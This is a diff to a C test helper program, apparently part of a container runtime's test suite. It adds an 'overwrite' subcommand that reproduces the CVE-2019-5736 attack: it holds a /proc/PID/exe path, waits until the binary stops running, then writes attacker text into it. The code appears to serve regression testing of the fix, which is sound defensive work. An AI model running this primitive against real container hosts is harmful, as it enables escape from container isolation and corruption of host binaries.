@@ -183,6 +183,45 @@ static int do_readlink(const char *path)
 	return 0;
 }
 
+/* overwrite PATH TEXT: CVE-2019-5736's attacker. Hold PATH (a
+ * /proc/PID/exe) with O_PATH and say "held <its target>"; then reopen it
+ * for writing through /proc/self/fd until the program stops running it
+ * (ETXTBSY until then, 10 s at most), and write TEXT at its start.
+ * Prints "wrote", or where it failed. */
+static int overwrite(const char *path, const char *text)
+{
+	char fdpath[64], target[4096];
+	int fd = open(path, O_PATH | O_CLOEXEC), w = -1;
+	ssize_t n;
+
+	if (fd < 0) {
+		printf("error: open %s: %s\n", path, strerror(errno));
+		return 1;
+	}
+	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
+	n = readlink(fdpath, target, sizeof(target) - 1);
+	target[n < 0 ? 0 : n] = 0;
+	printf("held %s\n", target);
+	fflush(stdout);
+	for (int k = 0; k < 200; k++) {
+		w = open(fdpath, O_WRONLY | O_CLOEXEC);
+		if (w >= 0 || errno != ETXTBSY) {
+			break;
+		}
+		usleep(50000);
+	}
+	if (w < 0) {
+		printf("error: reopen for writing: %s\n", strerror(errno));
+		return 1;
+	}
+	if (write(w, text, strlen(text)) != (ssize_t)strlen(text)) {
+		printf("error: write: %s\n", strerror(errno));
+		return 1;
+	}
+	printf("wrote\n");
+	return 0;
+}
+
 static int id(void)
 {
 	gid_t g[256];
@@ -320,7 +359,8 @@ static void usage(void)
 	      "  keyctl keylabel label PATH owner PATH syscall32 NR [A0 [A1]] (x86_64: an i386 syscall)\n"
 	      "  open PATH r|w|p (O_RDONLY, O_WRONLY, O_PATH) exchange A B N out FILE\n"
 	      "  sigsys (catch seccomp's SIGSYS: print it, go on)\n"
-	      "  mount TYPE DIR (a new TYPE, source TYPE) umount DIR (MNT_DETACH)\n",
+	      "  mount TYPE DIR (a new TYPE, source TYPE) umount DIR (MNT_DETACH)\n"
+	      "  overwrite PATH TEXT (CVE-2019-5736: hold PATH, write TEXT into it once free)\n",
 	      stderr);
 	exit(2);
 }
@@ -504,6 +544,8 @@ static int run(int argc, char **argv)
 		int fl = a2[0] == 'w' ? O_WRONLY : a2[0] == 'p' ? O_PATH : O_RDONLY;
 		int fd = open(a1, fl | O_CLOEXEC);
 		return ok_or_error(fd < 0 ? -1 : close(fd));
+	} else if (!strcmp(c, "overwrite") && a2) {
+		return overwrite(a1, a2);
 	} else if (!strcmp(c, "exchange") && argc > 3) {
 		/* exchange A B N: swap two paths N times (renameat2
 		 * RENAME_EXCHANGE), the racer of the mount tests */
